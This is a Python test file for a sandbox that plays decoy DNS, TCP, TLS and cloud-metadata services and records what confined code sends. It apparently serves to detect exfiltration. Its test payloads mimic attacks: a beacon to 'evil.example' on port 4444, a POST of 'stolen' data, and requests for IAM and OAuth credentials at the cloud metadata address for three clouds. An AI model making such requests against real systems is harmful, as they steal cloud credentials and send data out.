"""Decoys answer every address inside an empty network namespace, and report what they are sent."""

import contextlib
import json
import os
import signal
import socket
import ssl
import struct
import subprocess
import sys
import time
import urllib.request
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from harness.recorded import Recorded, child, ended, record
from pratique.core.errors import JailError
from pratique.sandbox.record import decoys
from pratique.sandbox.record.network import Network
from pratique.sandbox.record.timeline import Timeline

linux = pytest.mark.skipif(sys.platform != "linux", reason="decoys need Linux")
CANARY = "canary-4f1c"


def query(name: str, kind: int = 1) -> bytes:
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack(">6H", 0x1234, 0x100, 1, 0, 0, 0) + labels + struct.pack(">BHH", 0, kind, 1)


def tcp(address: str, port: int, data: bytes) -> bytes:
    with socket.create_connection((address, port), 5) as sock:
        sock.sendall(data)
        sock.shutdown(socket.SHUT_WR)
        return sock.recv(4096)


def run(payload: Callable[[], object]) -> Recorded:
    seen = record(payload, decoys=True)
    assert seen.status == 0, seen.shown()
    return seen


@linux
def test_a_name_is_resolved_and_a_later_connection_tells_it() -> None:
    def payload() -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.settimeout(5)
            sock.connect(("192.0.2.53", 53))
            sock.send(query("Beacon.evil.example"))
            answer = sock.recv(512)
        tcp(socket.inet_ntoa(answer[-4:]), 4444, b"hello")

    seen = run(payload)
    asked = seen.one("dns", name="Beacon.evil.example", type="A")
    assert asked.source == "sink"
    assert asked.word("address").startswith("198.51.100.")
    assert seen.of("connect", name="Beacon.evil.example", port="4444")
    assert seen.one("received", port="4444", preview="hello").word("size") == "5"


@linux
def test_the_c_library_resolves_too_and_over_tcp() -> None:
    def payload() -> None:
        assert socket.getaddrinfo("model.example", 80)
        raw = query("big.example", 28)
        got = tcp("192.0.2.53", 53, len(raw).to_bytes(2, "big") + raw)
        assert socket.inet_ntop(socket.AF_INET6, got[-16:]).startswith("2001:db8::")

    seen = run(payload)
    assert seen.of("dns", name="model.example", type="A")
    assert seen.of("dns", name="big.example", type="AAAA")


@linux
def test_any_port_of_any_address_is_answered_on_demand() -> None:
    def payload() -> None:
        tcp("203.0.113.77", 31337, b"a\0b")
        tcp("2001:db8::77", 31338, b"six")
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.sendto(b"beacon", ("198.51.100.200", 9999))

    seen = run(payload)
    assert seen.of("received", address="203.0.113.77", port="31337", preview="a\\x00b")
    assert seen.of("received", address="2001:db8::77", port="31338", preview="six")
    assert seen.of("received", address="198.51.100.200", port="9999", preview="beacon")


@linux
def test_http_is_answered_and_cloud_metadata_hands_out_the_canary() -> None:
    def payload() -> None:
        with urllib.request.urlopen("http://198.51.100.9:8080/x", b"stolen", 5) as answer:
            assert answer.read() == b"ok\n"
        role = "http://169.254.169.254/latest/meta-data/iam/security-credentials/model-runner"
        with urllib.request.urlopen(role, timeout=5) as answer:
            assert json.load(answer)["SecretAccessKey"] == CANARY

    seen = run(payload)
    posted = seen.one("received", address="198.51.100.9", port="8080")
    assert posted.word("preview").startswith("POST /x HTTP/1.1\\r\\n")
    assert posted.word("preview").endswith("stolen")
    assert "security-credentials" in seen.one("received", address="169.254.169.254").word("preview")


@linux
def test_tls_tells_the_name_that_was_asked_for() -> None:
    def payload() -> None:
        context = ssl.create_default_context()
        with contextlib.suppress(OSError), socket.create_connection(("203.0.113.5", 443), 5) as s:
            context.wrap_socket(s, server_hostname="tls.example")

    assert run(payload).of("received", port="443", name="tls.example")


@linux
def test_a_large_upload_is_counted_and_its_beginning_kept() -> None:
    def payload() -> None:
        with socket.create_connection(("198.51.100.9", 4444), 5) as sock:
            sock.sendall(b"z" * 3_000_000)

    upload = run(payload).one("received", port="4444")
    assert upload.word("size") == "3000000"
    assert upload.word("preview") == "z" * 500


@linux
def test_who_waits_for_a_second_stage_gets_an_end() -> None:
    def payload() -> None:
        with socket.create_connection(("198.51.100.9", 4444), 5) as sock:
            sock.sendall(b"ready")
            sock.settimeout(20)
            assert sock.recv(1) == b""

    seen = run(payload)
    assert seen.seconds < 10
    assert seen.of("received", preview="ready")


@linux
def test_a_flood_of_datagrams_stays_bounded() -> None:
    def payload() -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.connect(("198.51.100.9", 9999))
            for index in range(30_000):
                with contextlib.suppress(OSError):
                    sock.send(b"%d" % index)
        for port in range(2_000, 2_400):
            with contextlib.suppress(OSError):
                socket.create_connection(("198.51.100.9", port), 5).close()

    seen = run(payload)
    assert len(seen.of("received")) <= 10_001
    assert len(seen.of("connect")) >= 401


# --- the helper's life -------------------------------------------------------------------------


def _helpers(pid: int) -> list[int]:
    """Return the helper processes that a process started."""
    found = []
    for folder in Path("/proc").iterdir():
        with contextlib.suppress(OSError, ValueError):
            line = (folder / "cmdline").read_bytes()
            if b"record.sink" in line and f", {pid}, ".encode() in line:
                found.append(int(folder.name))
    return found


def _gone(pid: int, seconds: float = 10.0) -> bool:
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        try:
            if Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] == "Z":
                return True
        except OSError:
            return True
        time.sleep(0.02)
    return False


@linux
def test_the_helper_holds_nothing_and_ends_when_it_is_closed() -> None:
    with child(lambda: None) as (pid, listener, _, _):
        os.close(listener)
        network = Network.start(pid, canary=CANARY)
        assert network.held == ("limits", "user", "seccomp")
        (helper,) = _helpers(pid)
        status = Path(f"/proc/{helper}/status").read_text()
        assert "CapEff:\t0000000000000000" in status
        assert "NoNewPrivs:\t1" in status
        assert "Seccomp:\t2" in status
        assert Path(f"/proc/{helper}/ns/net").samefile(f"/proc/{pid}/ns/net")
        network.close()
        network.close()
        assert not _helpers(pid)


@linux
def test_the_helper_ends_with_the_inmate() -> None:
    with child(lambda: None) as (pid, listener, sock, _):
        os.close(listener)
        network = Network.start(pid, canary=CANARY)
        network.join(Timeline())
        (helper,) = _helpers(pid)
        sock.sendall(b"g")
        ended(pid)
        assert _gone(helper)
        network.expect(4444)
        network.close()


@linux
def test_the_helper_ends_with_a_killed_supervisor() -> None:
    with child(lambda: None) as (pid, listener, _, _):
        os.close(listener)
        ready, told = os.pipe()
        supervisor = os.fork()
        if supervisor == 0:
            try:
                Network.start(pid, canary=CANARY)
                os.write(told, b"x")
                time.sleep(30)
            finally:
                os._exit(1)
        os.read(ready, 1)
        os.close(ready)
        os.close(told)
        (helper,) = _helpers(pid)
        os.kill(supervisor, signal.SIGKILL)
        os.waitpid(supervisor, 0)
        assert _gone(helper)


@linux
def test_no_decoys_are_put_into_a_network_that_is_in_use() -> None:
    other = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(30)"])
    try:
        with pytest.raises(JailError, match="shares this network"):
            Network.start(other.pid, canary=CANARY)
    finally:
        other.kill()
        other.wait()


@linux
def test_an_inmate_that_has_gone_is_an_error() -> None:
    with pytest.raises(JailError, match="does not start"):
        Network.start(2**22 + 1, canary=CANARY)


# --- what decoys say ---------------------------------------------------------------------------


def test_names_get_addresses_of_their_own_until_they_are_too_many() -> None:
    names = decoys.Names()
    given_out = {names.address(f"{index}.example", six=False) for index in range(700)}
    assert len(given_out) == decoys.MAX_NAMES + 1
    assert all(a.startswith(("198.51.100.", "203.0.113.")) for a in given_out)
    assert names.address("1.EXAMPLE.", six=False) == names.address("1.example", six=False)
    assert names.address("metadata.google.internal", six=False) == "169.254.169.254"


@pytest.mark.parametrize(
    ("path", "holds"),
    [
        ("/latest/meta-data/iam/security-credentials/", "model-runner"),
        ("/latest/meta-data/iam/security-credentials/x", CANARY),
        ("/latest/api/token", CANARY),
        ("/computeMetadata/v1/instance/service-accounts/default/token", CANARY),
        ("/metadata/identity/oauth2/token?api-version=2018-02-01", CANARY),
        ("/", "ami-id"),
    ],
)
def test_metadata_services_of_three_clouds_are_played(path: str, holds: str) -> None:
    request = f"GET {path} HTTP/1.1\r\n\r\n".encode()
    assert holds.encode() in decoys.http(request, "169.254.169.254", CANARY)
    assert holds.encode() not in decoys.http(request, "198.51.100.9", CANARY)


@given(st.binary(max_size=600))
def test_no_bytes_break_the_decoys(data: bytes) -> None:
    names = decoys.Names()
    decoys.dns(data, names)
    decoys.dns(query("a.example")[:12] + data, names)
    decoys.tls_name(data)
    decoys.tls_name(b"\x16\x03\x01\x02\x00\x01" + data)
    decoys.http_size(data + b"\r\n\r\n")
    decoys.http(b"GET " + data, "169.254.169.254", CANARY)
    assert decoys.is_http(b"GET / HTTP/1.1\r\n" + data)


def test_a_name_that_does_not_end_is_no_query() -> None:
    assert decoys.dns(query("a.example")[:15], decoys.Names()) is None
    assert (
        decoys.dns(struct.pack(">6H", 1, 0, 1, 0, 0, 0) + b"\xc0\x0c" * 9, decoys.Names()) is None
    )
